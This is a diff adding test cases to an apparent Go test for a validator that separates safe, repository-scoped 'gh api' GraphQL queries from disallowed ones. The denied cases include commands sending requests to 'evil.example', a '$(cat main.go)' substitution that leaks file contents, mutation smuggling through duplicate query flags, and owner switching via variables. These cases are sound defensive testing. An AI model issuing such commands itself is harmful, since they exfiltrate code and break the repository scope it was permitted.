@@ -30,6 +30,8 @@ gh api 'repos/{owner}/{repo}/pulls'
 gh api -X GET repos/acme/shop/issues -f state=open
 gh api repos/acme/shop/issues --method get -F per_page=5
 git ls-remote --heads origin
+gh api graphql -f query='query { repository(owner:"acme", name:"shop") { pullRequest(number: 3) { title } } }'
+gh api graphql -F owner=acme -F repo=shop -F n=3 -f query='query($owner: String!, $repo: String!, $n: Int!) { repository(owner: $owner, name: $repo) { pullRequest(number: $n) { title } } }'
 gh release list`,
 		`gh api -X POST repos/acme/shop/issues
 gh api repos/acme/shop/issues -f title=x
@@ -45,6 +47,24 @@ gh api -X GET search/code -f q=x
 gh api -X DELETE repos/acme/shop/git/refs/heads/x
 gh api graphql -f query='mutation { x }'
 gh api graphql -F query=@q.graphql
+gh api graphql -f query='mutation { repository(owner:"acme", name:"shop") { x } }'
+gh api graphql -f query='query { repository(owner:"acme", name:"shop") { x } } mutation { y }'
+gh api graphql -f query='query { repository(owner:"acme", name:"shop") { x } viewer { email } }'
+gh api graphql -f query='query { viewer { repository(name:"shop") { x } } }'
+gh api graphql -f query='query { a: repository(owner:"acme", name:"shop") { x } }'
+gh api graphql -f query='query { repository(owner:"other", name:"shop") { x } }'
+gh api graphql -f owner=other -f query='query($owner: String!) { repository(owner: $owner, name: "shop") { x } }'
+gh api graphql -f owner=acme -f owner=other -f query='query($owner: String!) { repository(owner: $owner, name: "shop") { x } }'
+gh api graphql -f query='query { repository(owner:"acme", name:"shop") { x } }' -f query='mutation { y }'
+gh api graphql -f query='query { repository(owner:"acme", name:"shop") { x } }' --raw-field=query='mutation { y }'
+gh api graphql -f query='query { repository(owner:"acme", name:"shop") { x } }' -fquery='mutation { y }'
+gh api graphql -f query='query { repository(owner:"acme", name:"shop") { x } }' --input body.json
+gh api graphql --hostname evil.example -f query='query { repository(owner:"acme", name:"shop") { x } }'
+gh api graphql -f query='{ repository(owner:"acme", name:"shop") { x(y:"{{") } viewer { e(z:"}}") } }'
+gh api graphql -X POST -f query='query { repository(owner:"acme", name:"shop") { x } }' -H 'X-HTTP-Method-Override: x'
+gh api graphql -f query='{ repository(owner:"acme", name:"shop") @include(if: true) { x } viewer { y } }'
+gh api graphql -f query="query { repository(owner:\"acme\", name:\"shop\") { x(y: \"$(cat main.go)\") } }"
+GH_HOST=evil.example gh api graphql -f query='query { repository(owner:"acme", name:"shop") { x } }'
 gh api /repos/acme/../evil/x
 gh api repos/other/shop/pulls
 gh api user/emails
